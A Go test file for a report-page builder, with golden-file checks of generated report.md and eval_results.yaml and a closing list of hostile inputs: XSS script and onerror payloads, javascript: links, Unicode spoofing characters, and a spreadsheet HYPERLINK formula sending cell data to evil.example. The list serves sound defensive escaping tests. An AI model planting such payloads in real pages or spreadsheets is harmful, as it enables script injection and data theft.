package page

import (
	"bytes"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"teamtalk/recipe/artifact/artifacttest"
)

var update = flag.Bool("update", false, "write the golden files anew")

// made holds simulated run folders by their options; tests get copies.
var made = map[string]string{}

func TestMain(m *testing.M) {
	code := m.Run()
	for _, dir := range made {
		os.RemoveAll(dir)
	}
	os.Exit(code)
}

// syntheticRun makes a simulated run folder.
func syntheticRun(t testing.TB, o artifacttest.Options) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "run")
	if o.EditPlan != nil || o.EditCheck != nil {
		if err := artifacttest.Write(dir, o); err != nil {
			t.Fatal(err)
		}
		return dir
	}
	key := fmt.Sprintf("%+v", o)
	if made[key] == "" {
		tmp, err := os.MkdirTemp("", "synthetic")
		if err != nil {
			t.Fatal(err)
		}
		made[key] = tmp
		if err := artifacttest.Write(filepath.Join(tmp, "run"), o); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.CopyFS(dir, os.DirFS(filepath.Join(made[key], "run"))); err != nil {
		t.Fatal(err)
	}
	return dir
}

func mustBuild(t testing.TB, fsys fs.FS, o Options) Files {
	t.Helper()
	files, err := Build(fsys, o)
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// small is a run that is quick to make.
func small() artifacttest.Options { return artifacttest.Options{Tasks: 20, Steps: 4} }

func TestGolden(t *testing.T) {
	files := mustBuild(t, os.DirFS(syntheticRun(t, artifacttest.Options{Steps: 8})), Options{})
	for _, name := range []string{"report.md", "eval_results.yaml"} {
		golden := filepath.Join("testdata", "synthetic-"+name)
		if *update {
			if err := os.WriteFile(golden, files[name], 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(files[name], want) {
			t.Errorf("%s differs from %s; if that is meant, run go test ./report/page -update:\n%s", name, golden, strings.Join(Diff(string(want), string(files[name])), "\n"))
		}
	}
}

// hostile are replies that try to become something else than text.
var hostile = []string{
	`<script>window.hacked=1</script><img src=x onerror="window.hacked=1"> \boxed{1}`,
	"```\n# A heading\n````\n<b>bold</b>\n```js\nalert(1)\n",
	"| a | b |\n|---|---|\n| `x` \\| | [click](javascript:alert(1)) |",
	"=HYPERLINK(\"http://evil.example/?\"&A1)\n+1+1\n-2\n@SUM(1)",
	"\u202Egnp.exe\u2066 \u200Bhidden\u0000\u0007\u001B[31mred \uE000" + "3\uE001fake\uE002 \uE003x\uE004",
	"[link](javascript:alert(1)) <javascript:alert(1)> http://evil.example www.evil.example ![x](http://evil.example/x.png)",
	"</script></style></template><!-- ]]> \u2028 \u2029 \xff\xfe",
	strings.Repeat("A", 1<<20),
}
